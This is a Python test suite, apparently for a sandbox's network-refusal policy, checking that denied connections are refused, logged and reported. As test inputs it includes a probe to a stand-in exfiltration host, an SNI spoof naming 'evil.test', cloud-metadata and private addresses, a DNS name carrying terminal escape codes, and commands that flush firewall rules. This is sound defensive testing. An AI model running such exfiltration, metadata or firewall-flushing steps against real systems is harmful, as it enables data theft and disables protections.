#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What the network refuses: how a program sees it, that nothing left, and that
it is on the ledger and told to the user."""

import json
import socket
import threading

import servers
from harness import (World, check, contains, equal, main, skip, test)

w = World()
ca = servers.Authority(w.top + '/ca')
web = w.serve(servers.Web())
tls = w.serve(servers.Web(cert=ca.issue('tls.test', 'evil.test')))
udp = w.serve(servers.Udp())
priv = w.serve(servers.Tcp(servers.echo))
dns = w.serve(servers.Dns({
    'private.test': ['127.0.0.1'], 'ten.test': ['10.1.2.3'],
    'meta.test': ['169.254.169.254'], 'six.test': ['::1', 'fd00::1'],
    'mapped.test': ['::ffff:127.0.0.1'], 'nat64.test': ['64:ff9b::7f00:1'],
    'gone.test': [],
}))
w.policy(f'''version: 1
network:
  deny:
    - {{host: telemetry.wild.test}}
  allow:
    - {{host: web.test, ports: [80], connect: "127.0.0.1:{web.port}"}}
    - {{host: tls.test, connect: "127.0.0.1:{tls.port}"}}
    - {{host: "*.wild.test", connect: "127.0.0.1:{web.port}"}}
    - {{host: private.test, ports: [{priv.port}]}}
    - {{host: ten.test}}
    - {{host: meta.test}}
    - {{host: six.test, ports: [{priv.port}]}}
    - {{host: mapped.test, ports: [{priv.port}]}}
    - {{host: nat64.test, ports: [{priv.port}]}}
    - {{host: gone.test}}
    - {{host: unknown.test}}
    - {{host: closed.test, connect: "127.0.0.1:1"}}
  dns: ["127.0.0.1:{dns.port}"]
''')

TRY = '''
import errno, json, socket, sys
def tcp(host, port, family=0):
    try:
        ai = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
    except socket.gaierror as e:
        return "gai %d" % e.errno
    s = socket.socket(ai[0], ai[1])
    s.settimeout(8)
    try:
        s.connect(ai[4])
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
    try:
        s.sendall(b"x")
        return "data" if s.recv(1) else "closed"
    except OSError as e:
        return "then " + errno.errorcode.get(e.errno, str(e))
def udp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.send(b"x")
        s.recv(1)
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
    return "sent"
'''


def python(script, **kw):
    """The script's printed lines; TRY is before it."""
    r = w.run('/usr/bin/python3', '-c', TRY + script, **kw)
    equal(r.code, 0, f'{r}')
    return r


@test('a raw IPv4 address: ECONNREFUSED at connect, recorded')
def raw_v4():
    r = python('print(tcp("192.0.2.1", 80), tcp("192.0.2.1", 443))')
    equal(r.out, 'ECONNREFUSED ECONNREFUSED\n', 'errno')
    rows = w.refused(addr='192.0.2.1')
    check(rows, f'no record: {w.having("net.refuse")}')
    equal({x['proto'] for x in rows}, {'tcp'}, 'proto')
    equal({x['port'] for x in rows}, {80, 443}, 'ports')


@test('a raw IPv6 address: ECONNREFUSED at connect, recorded')
def raw_v6():
    r = python('print(tcp("2001:db8::1", 443))')
    equal(r.out, 'ECONNREFUSED\n', 'errno')
    check(w.refused(addr='2001:db8::1', port=443), 'no record')


@test('UDP and QUIC: refused, recorded, nothing leaves')
def udp_refused():
    r = python(f'print(udp("192.0.2.1", 443), udp("192.0.2.1", {udp.port}), '
               'udp("2001:db8::1", 443, socket.AF_INET6))')
    equal(r.out, 'ECONNREFUSED ECONNREFUSED ECONNREFUSED\n', 'errno')
    check(w.refused(addr='192.0.2.1', proto='udp', port=443), 'no record')
    equal(udp.count, 0, 'datagrams at the host')


@test('UDP to an allowed name is refused too')
def udp_named():
    r = python('print(udp(socket.gethostbyname("web.test"), 443))')
    equal(r.out, 'ECONNREFUSED\n', 'errno')


@test('ICMP, raw and packet sockets cannot be had')
def other_sockets():
    r = python('''
for args in ((2, 3, 1), (2, 2, 1), (10, 2, 58), (17, 3, 0), (40, 1, 0),
             (2, 1, 262), (16, 3, 9), (38, 5, 0)):
    try:
        socket.socket(*args)
        print("made", args)
    except OSError as e:
        pass
''')
    equal(r.out, '', 'sockets that could be made')


@test('a name that is not allowed does not exist, and nobody is asked')
def unknown_name():
    before = len(dns.asked)
    r = python('print(tcp("secret-data.exfil.test", 80))')
    equal(r.out, 'gai -2\n', 'EAI_NONAME')
    equal([n for n, _ in dns.asked[before:] if 'exfil' in n], [], 'asked')
    check(w.refused(host='secret-data.exfil.test'), 'no record')


@test('every server is our resolver: 8.8.8.8, too, over UDP and TCP')
def any_resolver():
    r = python('''
import struct
def ask(name, kind, tcp=False):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    q += struct.pack(">BHH", 0, kind, 1)
    s = socket.socket(socket.AF_INET,
                      socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect(("8.8.8.8", 53))
    s.sendall((struct.pack(">H", len(q)) if tcp else b"") + q)
    a = s.recv(4096)
    if tcp:
        a = a[2:] if len(a) > 2 else s.recv(4096)
    flags, _, n = struct.unpack(">HHH", a[2:8])
    return flags & 15, n
print(ask("web.test", 1), ask("web.test", 28), ask("web.test", 65),
      ask("exfil.test", 1), ask("exfil.test", 16), ask("web.test", 1, True))
''')
    equal(r.out, '(0, 1) (0, 1) (0, 0) (3, 0) (3, 0) (0, 1)\n', 'answers')


@test('a port that is not allowed: ECONNREFUSED at connect')
def wrong_port():
    r = python('print(tcp("web.test", 81), tcp("web.test", 443))')
    equal(r.out, 'ECONNREFUSED ECONNREFUSED\n', 'errno')
    check(w.refused(port=81), f'no record: {w.having("net.refuse")}')


@test('deny wins over a wildcard')
def deny_wins():
    equal(w.run('curl', '-sS', 'http://ok.wild.test/').code, 0, 'allowed')
    r = w.run('curl', '-sS', 'http://telemetry.wild.test/')
    equal(r.code, 6, 'denied')
    check(w.refused(host='telemetry.wild.test'), 'no record')


@test('an allowed name in a private range is not dialled')
def private_ranges():
    for host in ('private.test', 'six.test', 'mapped.test', 'nat64.test'):
        r = python(f'print(tcp("{host}", {priv.port}))')
        check(r.out.strip() not in ('data', 'gai -2'), f'{host}: {r.out}')
        # A resolver library may drop a mapped address by itself.
        check(w.refused(host=host) or host == 'mapped.test',
              f'{host}: no record: {w.having("net.refuse")}')
    for host in ('ten.test', 'meta.test'):
        r = python(f'print(tcp("{host}", 80))')
        check(r.out.strip() != 'data', f'{host}: {r.out}')
        check(w.refused(host=host), f'{host}: no record')
    equal(priv.count, 0, 'connections at the private server')


TLS_TRY = '''
import ssl
def hello(connect_to, sni):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        s = socket.create_connection((connect_to, 443), 8)
        t = ctx.wrap_socket(s, server_hostname=sni)
        return "shaken"
    except OSError as e:
        return "refused"
'''


@test('an SNI other than the resolved name is not forwarded')
def sni_mismatch():
    before = len(tls.snis)
    r = python(TLS_TRY + 'print(hello("tls.test", "evil.test"), '
               'hello("tls.test", "tls.test"))')
    equal(r.out, 'refused shaken\n', 'handshakes')
    equal(tls.snis[before:], ['tls.test'], 'what the server saw')
    rows = w.refused(proto='tls')
    check(rows, f'no record: {w.having("net.refuse")}')
    check('evil.test' in json.dumps(rows), 'the record names the SNI')


@test('port 443 demands a ClientHello with an SNI')
def no_sni():
    before = len(tls.snis)
    r = python(TLS_TRY + 'print(hello("tls.test", None))')
    equal(r.out, 'refused\n', 'no SNI')
    r = w.run('curl', '-sS', '-m', '10', 'http://tls.test:443/')
    check(r.code != 0, f'plain HTTP on 443: {r}')
    equal(tls.snis[before:], [], 'what the server saw')
    check(w.having('net.refuse'), 'no record')


@test('a ClientHello in small pieces is read whole')
def pieces():
    r = python('''
import ssl, time
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
t = ctx.wrap_bio(i, o, server_hostname="tls.test")
try:
    t.do_handshake()
except ssl.SSLWantReadError:
    pass
s = socket.create_connection(("tls.test", 443), 8)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for b in o.read():
    s.sendall(bytes([b]))
print(len(s.recv(100)) > 0)
''')
    equal(r.out, 'True\n', 'the server answered')


@test('an upstream that refuses, or whose name is gone, is an error soon')
def upstream_down():
    for host in ('closed.test', 'gone.test', 'unknown.test'):
        r = w.run('curl', '-sS', '-m', '15', f'http://{host}/')
        check(r.code not in (0, 28), f'{host}: {r}')


@test('the user learns of it in one folded line that names the way out')
def notice():
    r = w.sh('for i in 1 2 3 4 5 6 7 8 9; do curl -s http://foreign.test/; '
             'done; true')
    lines = [x for x in r.err.splitlines() if 'foreign.test' in x]
    check(1 <= len(lines) <= 2, f'lines: {r.err!r}')
    contains(lines[0], 'host: foreign.test', 'the policy line')


@test('a hostile name cannot steer the terminal')
def hostile_name():
    r = python('''
import struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.connect(("10.0.2.3", 53))
label = b"a\\x1b[2Jb\\nc"
q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
s.send(q + bytes([len(label)]) + label + b"\\4test\\0" +
       struct.pack(">HH", 1, 1))
print(s.recv(100)[3] & 15)
''')
    check(r.out.strip() in ('1', '3'), f'rcode {r.out}')
    check('\x1b' not in r.err, 'an escape sequence came through')


@test('without a network section everything is closed')
def closed():
    other = World()
    r = other.run('/usr/bin/python3', '-c', TRY +
                  'print(tcp("web.test", 80), tcp("192.0.2.1", 80))')
    equal(r.out, 'gai -2 ECONNREFUSED\n', f'{r}')
    other.close()


@test('what the jail adds to its own network changes nothing')
def own_network():
    r = w.sh('ip route del default 2>&1; ip addr add 10.9.9.9/24 dev lo 2>&1; '
             'nft flush ruleset 2>&1; iptables -F 2>&1; true')
    r = python('print(tcp("192.0.2.1", 80))')
    equal(r.out, 'ECONNREFUSED\n', 'still refused')


main()
